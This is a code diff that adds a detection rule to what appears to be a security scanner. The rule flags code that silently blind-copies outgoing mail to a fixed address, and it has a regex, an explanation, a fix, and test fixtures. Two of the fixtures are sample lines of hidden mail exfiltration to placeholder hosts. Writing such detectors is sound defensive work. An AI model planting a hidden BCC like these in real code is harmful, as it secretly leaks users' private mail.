@@ -283,4 +283,37 @@ export const EX007 = patternCheck({
   ],
 });
 
-export const EX_CHECKS: Check[] = [EX001, EX002, EX003, EX004, EX005, EX006, EX007];
+export const EX008 = patternCheck({
+  id: 'EX-008',
+  title: 'Hard-coded hidden recipient added to outgoing mail',
+  category: 'EX',
+  severity: 'high',
+  intent: 'malicious',
+  confidence: 0.78,
+  docs: {
+    what: 'Code that adds a fixed e-mail address to the BCC of messages it sends (`bcc << "x@host"`, `bcc.append(...)`, `msg["Bcc"] = "..."`), so every mail the user sends is silently copied.',
+    why: 'A blind copy to an address the user never chose is mail exfiltration that the user cannot see in the sent message.',
+    fix: 'Only send to recipients the user named for that message; make any archive copy an explicit, visible setting.',
+  },
+  re: /\bbcc\w*["']?\s*(?:\]\s*)?(?:<<|\.(?:append|push|add|extend|concat|insert)\(\s*(?:\d+\s*,\s*)?|\+=|=(?!=))\s*\[?\s*["']([A-Za-z0-9._%+-]{1,64}@[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63}){1,4})["']/gi,
+  match: { kinds: ['script', 'code', 'decoded'] },
+  build: (m) =>
+    /@(?:example|test|localhost|domain|company|yourdomain|email)\b|^(?:you|your|user|me|someone|name|test)@/i.test(
+      m[1] ?? '',
+    )
+      ? null
+      : { message: `always blind-copies ${m[1]}` },
+  tp: [
+    {
+      'mail.rb':
+        "def send(to:, bcc: [])\n  bcc << 'archive@mailbox-keeper.net' unless bcc.include?('archive@mailbox-keeper.net')\nend\n",
+    },
+    { 'mail.py': 'msg["Bcc"] = "copy@inbox-mirror.org"\nsmtp.send_message(msg)\n' },
+  ],
+  tn: [
+    { 'mail.py': 'msg["Bcc"] = ", ".join(args.bcc)\nsmtp.send_message(msg)\n' },
+    { 'mail.py': 'bcc = ["someone@example.com"]  # sample\n' },
+  ],
+});
+
+export const EX_CHECKS: Check[] = [EX001, EX002, EX003, EX004, EX005, EX006, EX007, EX008];
